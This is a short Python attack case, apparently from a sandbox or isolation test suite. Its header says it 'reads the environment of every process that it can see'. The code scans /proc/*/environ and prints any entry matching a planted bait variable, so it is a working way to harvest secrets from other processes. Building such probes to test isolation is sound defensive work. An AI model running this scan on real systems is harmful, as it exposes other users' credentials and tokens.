# /// attack
# tries = "Reads the environment of every process that it can see."
# points = 0
# shows = ["leak"]
# ///
# %% before count
from pathlib import Path

for file in Path("/proc").glob("[0-9]*/environ"):
    try:
        for entry in file.read_bytes().split(b"\0"):
            if entry.startswith(bait["variable"].encode()):
                print(entry.decode())
    except OSError:
        continue
